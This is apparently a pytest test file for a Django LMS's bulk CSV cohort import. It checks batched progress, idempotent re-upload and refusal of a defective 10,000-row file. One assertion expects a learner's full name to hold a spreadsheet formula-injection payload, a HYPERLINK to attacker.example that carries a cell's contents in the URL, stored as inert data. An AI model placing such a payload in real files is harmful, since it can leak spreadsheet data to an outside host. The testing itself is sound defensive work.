"""A valid 10,000-row file imports completely in the background, with visible progress,
in bulk; re-uploading it changes nothing. (How long it takes is a bench figure, not a test.)"""

import csv
import io

import pytest
from django.core import mail

from cohorts import api, imports
from courses import api as courses_api
from lms.core.models import User
from tests.badinput import DATA
from tests.cohorts.helpers import import_file, make_cohort, make_manager

pytestmark = pytest.mark.django_db


def valid_10k() -> bytes:
    """The shared 06_large_10k.csv with its three real defects repaired (the formula in
    row 7500 is data, not a defect)."""
    with (DATA / "bad_csv" / "06_large_10k.csv").open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    rows[2500][0] = "fatou.rahman.02500@example.org"
    rows[5000][0] = "amina.yusuf.05000@example.org"
    rows[9999][2] = "Multi Line"
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    return out.getvalue().encode()


def test_10000_rows_import_in_the_background_with_progress(course_tree, monkeypatch):
    manager = make_manager()
    cohort = make_cohort(managers=[manager], courses=[course_tree.course])
    seen = []
    original = imports._import_batch

    def watching(cohort_import, people):
        original(cohort_import, people)
        seen.append(api.CohortImport.objects.values_list("status", "processed_rows",
                                                        "total_rows").get(pk=cohort_import.pk))

    monkeypatch.setattr(imports, "_import_batch", watching)
    done = import_file(cohort=cohort, by=manager, content=valid_10k(),
                       default_profession="nurse", default_country="KE")
    assert done.status == "done", done.errors[:5]
    assert (done.total_rows, done.processed_rows, done.created_users, done.enrolled) == (
        10_000, 10_000, 10_000, 10_000)
    assert len(seen) == 20 and seen[0] == ("importing", 500, 10_000)
    assert [rows for _status, rows, _total in seen] == list(range(500, 10_001, 500))
    assert cohort.memberships.count() == 10_000
    assert courses_api.Enrollment.objects.filter(course=course_tree.course).count() == 10_000
    assert len(mail.outbox) == 10_000
    assert User.objects.get(email="samuel.mensah.07500@example.org").learner_profile.full_name \
        == '=HYPERLINK("https://attacker.example/?r="&A7501,"click") Mensah'

    mail.outbox.clear()
    seen.clear()
    users = User.objects.count()
    again = import_file(cohort=cohort, by=manager, content=valid_10k(),
                        default_profession="nurse", default_country="KE")
    assert (again.status, again.created_users, again.enrolled) == ("done", 0, 0)
    assert User.objects.count() == users and mail.outbox == []
    assert seen[-1] == ("importing", 10_000, 10_000)


def test_the_shared_large_file_is_refused_with_its_defects(course_tree):
    manager = make_manager()
    cohort = make_cohort(managers=[manager], courses=[course_tree.course])
    users = User.objects.count()
    done = import_file(cohort=cohort, by=manager,
                       content=(DATA / "bad_csv" / "06_large_10k.csv").read_bytes(),
                       default_profession="nurse", default_country="KE")
    assert done.status == "invalid"
    assert [error["row"] for error in done.errors] == [2500, 5000, 9999]
    assert any(note.startswith("Row 7500") for note in done.notes)
    assert User.objects.count() == users and not cohort.memberships.exists()
    assert mail.outbox == []
